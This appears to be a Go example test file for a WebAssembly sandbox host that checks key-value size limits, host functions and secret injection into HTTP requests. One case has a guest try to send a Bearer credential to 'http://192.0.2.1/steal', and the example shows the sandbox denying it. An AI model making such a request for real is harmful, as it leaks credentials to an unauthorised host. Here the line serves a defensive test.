package host_test

import (
	"bytes"
	"context"
	"encoding/binary"
	"fmt"
	"net/http"
	"net/http/httptest"
	"net/netip"

	"github.com/mortise-dev/mortise/host"
	httpcap "github.com/mortise-dev/mortise/host/capability/http"
	"github.com/mortise-dev/mortise/host/capability/kv"
)

// loadExample loads one of the guests in text format.
func loadExample(h *host.Host, name string, g host.Grants) *host.Module {
	m, err := h.Load(context.Background(), host.Spec{Path: wat(name), Grants: g})
	if err != nil {
		panic(err)
	}
	return m
}

// A guest keeps a value from one call to the next. Its output is a number, and the
// value.
func Example_keyValue() {
	ctx := context.Background()
	h, err := host.New(host.Config{})
	if err != nil {
		fmt.Println(err)
		return
	}
	defer h.Close(ctx)
	m := loadExample(h, "kv", host.Grants{Capabilities: []host.Capability{&kv.Grant{Store: kv.NewMemory(), ValueBytes: 10}}})

	for _, value := range []string{"0123456789", "a value that is too large"} {
		out, err := m.Call(ctx, "set", []byte("\x03key"+value))
		code := int32(binary.LittleEndian.Uint32(out)) //nolint:gosec // an i32 of the guest
		fmt.Println(code, string(out[8:]), err)
	}
	out, err := m.Call(ctx, "get", []byte("\x03key"))
	fmt.Println(string(out[8:]), err)
	// Output:
	// 0  <nil>
	// -3 too large: kv_set: the value has 25 bytes, 10 are allowed <nil>
	// 0123456789 <nil>
}

// A guest calls a function of the program around it.
func ExampleFunction() {
	ctx := context.Background()
	h, err := host.New(host.Config{})
	if err != nil {
		fmt.Println(err)
		return
	}
	defer h.Close(ctx)
	one := []host.ValueType{host.I64}
	upper := host.Function{
		Module: "mine", Name: "block", Params: one, Results: one,
		Call: func(_ context.Context, c *host.Caller, stack []uint64) error {
			text, err := c.Read(stack[0])
			if err != nil {
				return err
			}
			stack[0], err = c.Write(bytes.ToUpper(text))
			return err
		},
	}
	all := append([]host.Function{upper, nothing(fine)}, mine()[0], mine()[2]) // what else the guest imports
	m := loadExample(h, "functions", host.Grants{Functions: all})
	out, err := m.Call(ctx, "block", nil)
	fmt.Println(string(out), err)
	// Output: HI <nil>
}

// A guest asks an API with a credential that it never sees: not even when the
// server sends it back.
func Example_secret() {
	ctx := context.Background()
	server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		fmt.Println("the server got", r.Header.Get("Authorization"))
		fmt.Fprint(w, "you sent ", r.Header.Get("Authorization"))
	}))
	defer server.Close()
	h, err := host.New(host.Config{})
	if err != nil {
		fmt.Println(err)
		return
	}
	defer h.Close(ctx)

	api := server.Listener.Addr().String()
	m := loadExample(h, "http", host.Grants{Capabilities: []host.Capability{&httpcap.Grant{
		Hosts: []string{api},
		// Only because the server of this example is on this machine and has no TLS.
		Plain: true, Private: []netip.Prefix{netip.MustParsePrefix("127.0.0.1/32")},
		Secrets: map[string]httpcap.Secret{"api": {
			Value: func(context.Context) (string, error) { return "correct-horse-battery", nil },
			Hosts: []string{api}, Plain: true,
		}},
	}}})
	for _, url := range []string{server.URL, "http://192.0.2.1/steal"} {
		out, err := m.Call(ctx, "fetch", fmt.Appendf(nil, `{"url":%q,"headers":{"Authorization":"Bearer {{secret.api}}"}}`, url))
		fmt.Println(string(out[8:]), err)
	}
	// Output:
	// the server got Bearer correct-horse-battery
	// you sent Bearer {{secret.api}} <nil>
	// denied: http_fetch: http://192.0.2.1/steal: refused (host): the host "192.0.2.1" is not granted; ask the operator to add it to http.Grant.Hosts <nil>
}
